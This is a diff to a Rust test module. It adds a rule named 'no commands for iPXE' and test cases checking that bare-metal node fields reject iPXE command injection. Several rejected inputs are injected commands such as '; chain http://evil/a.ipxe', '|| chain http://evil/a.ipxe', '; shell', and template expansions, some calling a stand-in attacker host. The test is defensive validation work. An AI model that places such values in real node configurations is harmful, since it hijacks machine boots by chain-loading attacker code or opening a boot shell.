@@ -162,5 +162,61 @@ pub(super) fn of_nodes() -> Vec<Rule> {
                 ),
             ],
         ),
+        rule("no commands for iPXE", commands()),
+    ]
+}
+
+fn commands() -> [Case; 13] {
+    let of_driver = |key: &str, text: &str| node(json!({"driver_info": {key: text}}));
+    let of_instance = |key: &str, text: &str| node(json!({"instance_info": {key: text}}));
+    let append = "/node/driver_info/kernel_append_params";
+    let ramdisk = "/node/instance_info/ramdisk_kernel_arguments";
+    let nested = json!({"ramdisk_kernel_arguments": {"a": {"b ; shell": 1}}});
+    [
+        stricter(
+            append,
+            of_driver("kernel_append_params", "quiet ; chain http://evil/a.ipxe #"),
+        ),
+        stricter(
+            append,
+            of_driver(
+                "kernel_append_params",
+                "quiet -- ; chain http://evil/a.ipxe",
+            ),
+        ),
+        stricter(append, of_driver("kernel_append_params", "a=\"b ; c\"")),
+        stricter(append, of_driver("kernel_append_params", "quiet #")),
+        stricter(append, of_driver("kernel_append_params", "$%default%{mac}")),
+        stricter(
+            ramdisk,
+            of_instance("ramdisk_kernel_arguments", "x || chain http://evil/a.ipxe"),
+        ),
+        stricter(
+            ramdisk,
+            of_instance("ramdisk_kernel_arguments", "x ; shell"),
+        ),
+        stricter(
+            "/node/instance_info/ramdisk_kernel_arguments/a/b ; shell",
+            node(json!({ "instance_info": nested })),
+        ),
+        stricter(
+            "/node/instance_info/image_source",
+            of_instance("image_source", "http://images/a ; chain http://evil/a.ipxe"),
+        ),
+        stricter(
+            "/node/driver_info/deploy_kernel",
+            of_driver("deploy_kernel", "http://images/${net0/mac}"),
+        ),
+        taken(node(json!({
+            "driver_info": {"kernel_append_params": "console=ttyS0,115200n8 nofb %default% memmap=64M$0x18000000"},
+            "instance_info": {
+                "ramdisk_kernel_arguments": "pci=resource_alignment=20@pci:8086:9c22;12@pci:8086:9c23 -- single",
+                "image_source": "http://images/a?b=1&c=2#d",
+            },
+        }))),
+        taken(of_instance("display_name", "rack #4, R&D; |x|")),
+        taken(node(
+            json!({"instance_info": {"configdrive": {"user_data": "#!/bin/sh -c 'a || b'"}}}),
+        )),
     ]
 }
